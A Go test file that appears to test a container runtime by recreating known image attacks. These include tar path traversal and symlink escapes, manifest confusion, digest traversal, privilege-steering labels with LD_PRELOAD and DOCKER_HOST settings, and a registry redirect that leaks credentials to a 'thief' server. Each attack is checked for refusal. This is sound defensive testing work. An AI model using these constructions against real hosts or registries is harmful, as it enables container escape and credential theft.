package attacks

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"

	"github.com/opencontainers/runtime-spec/specs-go"
	"golang.org/x/sys/unix"
)

// This room has the attacks of images and of those who serve them: archives, manifests, metadata, redirections.

func init() {
	exhibits = append(exhibits,
		exhibit{
			class: "archive that leaves the target", known: "CVE-2021-29136, CVE-2021-32760, CVE-2025-47290, CVE-2026-17106", weak: "a program that unpacks by path",
			attack: func(m *museum, weak bool) outcome {
				up := strings.Repeat("../", 20)
				archives := [][]entry{
					{{name: "l", link: m.outside}, {name: "l/new"}},
					{{name: ".", link: m.outside}, {name: "new"}},
					{{name: up + m.outside[1:] + "/new"}},
				}
				if weak {
					target := m.t.TempDir()
					for _, e := range archives[0] {
						name := filepath.Join(target, e.name)
						if e.link != "" {
							m.must(os.Symlink(e.link, name))
							continue
						}
						m.write(name, "of the image")
					}
					if _, err := os.Stat(m.outside + "/new"); err != nil {
						return refused("%v", err)
					}
					return worked("wrote a file of the host")
				}
				defer m.unchanged()
				var last outcome
				for i, entries := range archives {
					file := fmt.Sprintf("%s/evil%d.tar", m.t.TempDir(), i)
					m.write(file, string(archive(entries...)))
					last = m.inStore("gcr import " + file + " evil >&2 && gcr run --quiet --network=none evil /museum attack uid0")
					m.unchanged()
				}
				return last
			},
			refusal: `"\.\."`,
		},
		exhibit{
			class: "manifest that is two things", known: "CVE-2021-41190", weak: "two programs that each read the half they know",
			attack: func(m *museum, weak bool) outcome {
				l := newLayout(m)
				good, evil := l.layer(archive(entry{name: "good"})), l.layer(archive(entry{name: "evil"}))
				inner := l.json(map[string]any{"schemaVersion": 2, "mediaType": manifestType, "config": l.config(nil, evil), "layers": []any{evil.descriptor}})
				inner["mediaType"] = manifestType
				both := map[string]any{"schemaVersion": 2, "config": l.config(nil, good), "layers": []any{good.descriptor}, "manifests": []any{inner}}
				top := l.json(both)
				top["mediaType"] = manifestType
				l.index(top)
				if weak {
					var scanner struct{ Layers []any }
					var engine struct{ Manifests []any }
					data := l.blobs[top["digest"].(string)]
					m.must(json.Unmarshal(data, &scanner))
					m.must(json.Unmarshal(data, &engine))
					if len(scanner.Layers) > 0 && len(engine.Manifests) > 0 {
						return worked("a scanner sees one image and the runtime another, under one digest")
					}
					return refused("both see the same")
				}
				return m.inStore("tar -C " + l.write() + " -c . | gcr load --quiet && gcr images")
			},
			refusal: `manifests.*layers|layers.*manifests|both`,
		},
		exhibit{
			class: "digest that is a path", known: "CVE-2024-3727", weak: "a program that joins the digest to a directory",
			attack: func(m *museum, weak bool) outcome {
				l := newLayout(m)
				digest := "sha256:" + strings.Repeat("../", 30) + m.outside[1:] + "/secret"
				l.index(map[string]any{"mediaType": manifestType, "digest": digest, "size": len(secret)})
				dir := l.write()
				if weak {
					algorithm, hash, _ := strings.Cut(digest, ":")
					return readSecret(filepath.Join(dir, "blobs", algorithm, hash))
				}
				return m.inStore("tar -C " + dir + " -c . | gcr load --quiet && gcr images")
			},
			refusal: "digest",
		},
		exhibit{
			class: "image whose metadata steer the host", known: "CVE-2023-0778 and kin, GO-2026-5758", weak: "an engine that runs the image's own command line",
			attack: func(m *museum, weak bool) outcome {
				labels := map[string]string{
					"run": "--privileged -v " + m.outside + ":/given", "RUN": "gcr run --privileged -v " + m.outside + ":/given IMAGE", "INSTALL": "sh -c id",
					"io.podman.annotations.privileged": "TRUE", "io.podman.annotations.volumes-from": m.outside, "run.oci.hooks": "/bin/sh",
					"cdi.k8s.io/museum": "museum.example/kmsg=all", "devices": "/dev/kmsg", "io.containerd.runtime": "/museum",
				}
				if weak {
					return m.gcr(strings.Fields(labels["run"]), "steered")
				}
				l := newLayout(m)
				program, err := os.ReadFile(m.rootfs + "/museum")
				m.must(err)
				layer := l.layer(archive(entry{name: "museum", content: program}))
				config := l.config(map[string]any{
					"Labels": labels, "Cmd": []string{"/museum", "attack", "steered"}, "Volumes": map[string]any{"/../../../.." + m.outside: map[string]any{}},
					"Env": []string{"NVIDIA_VISIBLE_DEVICES=all", "GCR_ROOTFS=/", "LD_PRELOAD=/evil.so", "DOCKER_HOST=tcp://192.0.2.1"},
				}, layer)
				manifest := l.json(map[string]any{"schemaVersion": 2, "mediaType": manifestType, "config": config, "layers": []any{layer.descriptor}, "annotations": labels})
				manifest["mediaType"], manifest["annotations"] = manifestType, map[string]string{"org.opencontainers.image.ref.name": "museum.example/steer:v1"}
				l.index(manifest)
				return m.inStore("tar -C " + l.write() + " -c . | gcr load --quiet >&2 && gcr run --quiet --network=none museum.example/steer:v1")
			},
			refusal: "nothing that the metadata ask for",
		},
		exhibit{
			class: "credentials sent to another host", known: "CVE-2020-15157", weak: "a program that sends them wherever it is sent",
			attack: func(m *museum, weak bool) outcome {
				l := newLayout(m)
				layer := l.layer(archive(entry{name: "x"}))
				manifest := map[string]any{"schemaVersion": 2, "mediaType": manifestType, "config": l.config(nil, layer), "layers": []any{layer.descriptor}}
				body, err := json.Marshal(manifest)
				m.must(err)
				var lock sync.Mutex
				asked, stolen := 0, ""
				thief := m.serve(func(_, auth string) (string, string, []byte) {
					lock.Lock()
					defer lock.Unlock()
					asked++
					if auth != "" {
						stolen = auth
					}
					return "401 Unauthorized", "WWW-Authenticate: Basic realm=\"give\"\r\n", nil
				})
				const user, password = "museum", "the password"
				credentials := base64.StdEncoding.EncodeToString([]byte(user + ":" + password))
				registry := m.serve(func(path, auth string) (string, string, []byte) {
					switch {
					case auth != "Basic "+credentials:
						return "401 Unauthorized", "WWW-Authenticate: Basic realm=\"registry\"\r\n", nil
					case strings.Contains(path, "/manifests/"):
						return "200 OK", "Content-Type: " + manifestType + "\r\n", body
					case strings.Contains(path, "/blobs/"+layer.descriptor["digest"].(string)):
						return "307 Temporary Redirect", "Location: http://" + thief + "/bucket/blob\r\n", nil
					case strings.Contains(path, "/blobs/"):
						return "200 OK", "", l.blobs[path[strings.LastIndex(path, "/")+1:]]
					}
					return "200 OK", "", nil
				})
				home := m.t.TempDir()
				m.mkdir(home + "/.docker")
				m.write(home+"/.docker/config.json", `{"auths":{"`+registry+`":{"auth":"`+credentials+`"}}}`)
				var o outcome
				if weak {
					answer := fetch(m, registry, "/v2/x/blobs/"+layer.digest, credentials)
					_, to, _ := strings.Cut(answer, "Location: http://")
					to, _, _ = strings.Cut(to, "\r")
					host, path, _ := strings.Cut(to, "/")
					fetch(m, host, "/"+path, credentials)
				} else {
					o = m.inStore("HOME=" + home + " XDG_RUNTIME_DIR= DOCKER_CONFIG= gcr pull --quiet " + registry + "/x:v1")
				}
				lock.Lock()
				defer lock.Unlock()
				switch {
				case asked == 0:
					m.t.Fatalf("the other host was never asked: %v", o)
				case strings.HasSuffix(stolen, credentials):
					return worked("the other host has the password")
				case stolen != "":
					return worked("the other host was sent %q", stolen)
				}
				return refused("the other host was asked without credentials: %s", o.detail)
			},
			refusal: "asked without credentials: .*401",
		},
		exhibit{
			class: "directory of the image copied through a link", known: "CVE-2018-15664, CVE-2019-10152, CVE-2026-41567", weak: "a runtime that copies by path",
			attack: func(m *museum, weak bool) outcome {
				// tmpcopyup fills a tmpfs with what the image has at that place.
				m.must(os.Symlink(m.outside, m.rootfs+"/data"))
				if weak {
					target := m.t.TempDir()
					m.must(os.CopyFS(target, os.DirFS(m.rootfs+"/data/")))
					return readSecret(target + "/secret")
				}
				return m.oci("run", &specs.Spec{
					Process: &specs.Process{Args: []string{"/museum", "attack", "secret", "/data/secret"}, Cwd: "/"},
					Mounts:  []specs.Mount{{Destination: "/data", Type: "tmpfs", Source: "tmpfs", Options: []string{"tmpcopyup"}}},
					Linux:   &specs.Linux{Namespaces: []specs.LinuxNamespace{{Type: specs.MountNamespace}, {Type: specs.PIDNamespace}}},
				})
			},
			refusal: "/data/secret: no such file",
		},
		exhibit{
			class: "volume with .. in its destination", known: "CVE-2022-23648, CVE-2024-9341, CVE-2024-1753", weak: "a runtime that joins the destination to the root",
			attack: func(m *museum, weak bool) outcome {
				destination := "/../outside/volume"
				if weak {
					m.must(os.Mkdir(m.rootfs+destination, 0o755))
					if _, err := os.Stat(m.outside + "/volume"); err != nil {
						return refused("%v", err)
					}
					return worked("made a directory of the host")
				}
				defer m.unchanged()
				return m.gcr([]string{"-v", m.rootfs + ":" + destination}, "mounted", "/outside/volume")
			},
			refusal: `stayed in the root filesystem|\.\.`,
		},
	)
	attackers["steered"] = func([]string) outcome {
		if err := unix.Mount("tmpfs", "/tmp", "tmpfs", 0, ""); err == nil {
			return worked("the container is privileged")
		}
		if _, err := os.Stat("/dev/kmsg"); err == nil {
			return worked("the container has the device")
		}
		if _, err := os.Stat("/given"); err == nil {
			return worked("the container has the directory of the host")
		}
		if os.Getpid() != 1 {
			return worked("the container has no process ids of its own")
		}
		return refused("nothing that the metadata ask for came true")
	}
}

const (
	manifestType = "application/vnd.oci.image.manifest.v1+json"
	configType   = "application/vnd.oci.image.config.v1+json"
	layerType    = "application/vnd.oci.image.layer.v1.tar"
)

// entry is one of an archive: a symbolic link, or a program with these contents.
type entry struct {
	name, link string
	content    []byte
}

// archive writes the format of pax(1), "ustar". (Package archive/tar would link the C library, by os/user, and the
// attacker's root filesystem has none.)
func archive(entries ...entry) []byte {
	var b []byte
	for _, e := range entries {
		var h [512]byte
		name := e.name
		if len(name) > 100 {
			at := len(name) - 100 + strings.IndexByte(name[len(name)-100:], '/')
			copy(h[345:500], name[:at])
			name = name[at+1:]
		}
		copy(h[:100], name)
		copy(h[100:], fmt.Sprintf("%07o\x00%07o\x00%07o\x00%011o\x00%011o\x00        0", 0o755, 0, 0, len(e.content), 0))
		if e.link != "" {
			h[156] = '2'
			copy(h[157:257], e.link)
		}
		copy(h[257:], "ustar\x0000")
		sum := 0
		for _, c := range h {
			sum += int(c)
		}
		copy(h[148:], fmt.Sprintf("%06o\x00 ", sum))
		b = append(append(b, h[:]...), e.content...)
		b = append(b, make([]byte, -len(e.content)&511)...)
	}
	return append(b, make([]byte, 1024)...)
}

// layout is an OCI image layout of the attacker's making.
type layout struct {
	m     *museum
	blobs map[string][]byte
	top   map[string]any
}

type layer struct {
	descriptor map[string]any
	digest     string
}

func newLayout(m *museum) *layout { return &layout{m: m, blobs: map[string][]byte{}} }

func (l *layout) add(data []byte) map[string]any {
	sum := sha256.Sum256(data)
	digest := "sha256:" + hex.EncodeToString(sum[:])
	l.blobs[digest] = data
	return map[string]any{"digest": digest, "size": len(data)}
}

func (l *layout) json(v any) map[string]any {
	data, err := json.Marshal(v)
	l.m.must(err)
	return l.add(data)
}

func (l *layout) layer(data []byte) layer {
	d := l.add(data)
	d["mediaType"] = layerType
	return layer{d, d["digest"].(string)}
}

func (l *layout) config(config map[string]any, layers ...layer) map[string]any {
	var ids []string
	for _, x := range layers {
		ids = append(ids, x.digest)
	}
	d := l.json(map[string]any{"architecture": runtime.GOARCH, "os": "linux", "config": config, "rootfs": map[string]any{"type": "layers", "diff_ids": ids}})
	d["mediaType"] = configType
	return d
}

func (l *layout) index(manifest map[string]any) {
	l.top = map[string]any{"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json", "manifests": []any{manifest}}
}

// write makes the directory and returns it.
func (l *layout) write() string {
	dir := l.m.t.TempDir()
	l.m.mkdir(dir + "/blobs/sha256")
	l.m.write(dir+"/oci-layout", `{"imageLayoutVersion":"1.0.0"}`)
	data, err := json.Marshal(l.top)
	l.m.must(err)
	l.m.write(dir+"/index.json", string(data))
	for digest, data := range l.blobs {
		l.m.write(dir+"/blobs/sha256/"+strings.TrimPrefix(digest, "sha256:"), string(data))
	}
	return dir
}

// inStore runs a line of shell in which gcr has an image store of its own.
func (m *museum) inStore(line string) outcome {
	m.t.Helper()
	m.t.Setenv("PATH", filepath.Dir(gcrProgram(m.t))+":"+os.Getenv("PATH"))
	m.mkdir("/var/lib/gcr")
	return m.run(unix.CLONE_NEWNS, "sh", "-c", "mount --make-rprivate / && mount -t tmpfs -o mode=700 tmpfs /var/lib/gcr && "+line)
}

// serve is a server of HTTP on the loopback, as much as an attack needs: package net would link the C library, which
// the attacker's root filesystem has not. It returns its host and port.
func (m *museum) serve(answer func(path, auth string) (status, headers string, body []byte)) string {
	m.t.Helper()
	l, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	m.must(err)
	m.must(unix.Bind(l, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}}))
	m.must(unix.Listen(l, 16))
	name, err := unix.Getsockname(l)
	m.must(err)
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		for {
			fd, _, err := unix.Accept4(l, unix.SOCK_CLOEXEC)
			if err != nil {
				return
			}
			conn := os.NewFile(uintptr(fd), "connection")
			respond(conn, answer)
			conn.Close()
		}
	}()
	m.t.Cleanup(func() {
		_ = unix.Shutdown(l, unix.SHUT_RDWR) // wakes accept
		<-ended
		unix.Close(l)
	})
	return fmt.Sprintf("127.0.0.1:%d", name.(*unix.SockaddrInet4).Port)
}

// fetch asks such a server for a path, as whoever has these credentials, and returns its answer.
func fetch(m *museum, server, path, credentials string) string {
	m.t.Helper()
	var port int
	_, err := fmt.Sscanf(server, "127.0.0.1:%d", &port)
	m.must(err)
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	m.must(err)
	conn := os.NewFile(uintptr(fd), "connection")
	defer conn.Close()
	m.must(unix.Connect(fd, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}, Port: port}))
	_, err = fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Basic %s\r\n\r\n", path, server, credentials)
	m.must(err)
	answer, err := io.ReadAll(conn)
	m.must(err)
	return string(answer)
}

func respond(conn io.ReadWriter, answer func(path, auth string) (string, string, []byte)) {
	var request []byte
	for buf := make([]byte, 4096); !bytes.Contains(request, []byte("\r\n\r\n")); {
		n, err := conn.Read(buf)
		if err != nil {
			return
		}
		request = append(request, buf[:n]...)
	}
	lines := strings.Split(string(request), "\r\n")
	method, rest, _ := strings.Cut(lines[0], " ")
	path, _, _ := strings.Cut(rest, " ")
	auth := ""
	for _, line := range lines[1:] {
		if name, value, _ := strings.Cut(line, ":"); strings.EqualFold(name, "Authorization") {
			auth = strings.TrimSpace(value)
		}
	}
	status, headers, body := answer(path, auth)
	fmt.Fprintf(conn, "HTTP/1.1 %s\r\n%sContent-Length: %d\r\nConnection: close\r\n\r\n", status, headers, len(body))
	if method != "HEAD" {
		_, _ = conn.Write(body)
	}
}
